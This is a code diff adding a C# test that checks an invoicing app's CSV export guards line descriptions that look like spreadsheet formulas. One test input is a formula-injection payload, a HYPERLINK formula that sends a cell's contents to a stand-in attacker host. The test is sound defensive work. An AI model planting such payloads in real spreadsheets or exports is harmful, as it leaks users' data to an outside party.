@@ -336,6 +336,40 @@ public abstract class JobJourneyTests(RapportFactory app) : DatabaseTests(app)
         (await JobAsync(desk, job.Id)).Money.Invoiced.ShouldBe(500.00m);
     }
 
+    /// <summary>Line descriptions are typed by people and end up in a spreadsheet: one that looks like a formula is written as
+    /// text (a leading apostrophe, quoted), while the app's own negative amounts stay numbers.</summary>
+    [Fact]
+    public async Task InvoiceCsv_DescriptionsLikeFormulas_AreGuarded_NegativeAmountsStayNumbers()
+    {
+        var (desk, job, _, _) = await ApprovedJobAsync(Today);
+        var raised = await desk.Api.PostJsonAsync($"/api/v1/jobs/{job.Id}/invoices", new
+        {
+            lines = new[]
+            {
+                Line("=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", 500.00m),
+                Line("@SUM(1)", 100.00m),
+                Line("-2+3; loyalty discount", -10.00m),
+                Line("+1 spare fuse", 1.00m),
+            },
+        });
+        await raised.ShouldHaveStatusAsync(HttpStatusCode.Created);
+
+        var response = await desk.Api.GetAsync(raised.Headers.Location, Ct);
+
+        await response.ShouldHaveStatusAsync(HttpStatusCode.OK);
+        response.Content.Headers.ContentType!.ToString().ShouldBe("text/csv; charset=utf-8");
+        (await response.Content.ReadAsStringAsync(Ct)).Split("\r\n").ShouldBe(
+        [
+            "description,quantity,unit_price,tax_rate,net,tax,total,currency",
+            "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\",1,500.00,0,500.00,0.00,500.00,EUR",
+            "\"'@SUM(1)\",1,100.00,0,100.00,0.00,100.00,EUR",
+            "\"'-2+3; loyalty discount\",1,-10.00,0,-10.00,0.00,-10.00,EUR",
+            "\"'+1 spare fuse\",1,1.00,0,1.00,0.00,1.00,EUR",
+            "Total,,,,,,591.00,EUR",
+            "",
+        ]);
+    }
+
     [Fact]
     public async Task Warranty_LineWithOverrideReason_IsBilledWithinTheAcceptedTotal()
     {
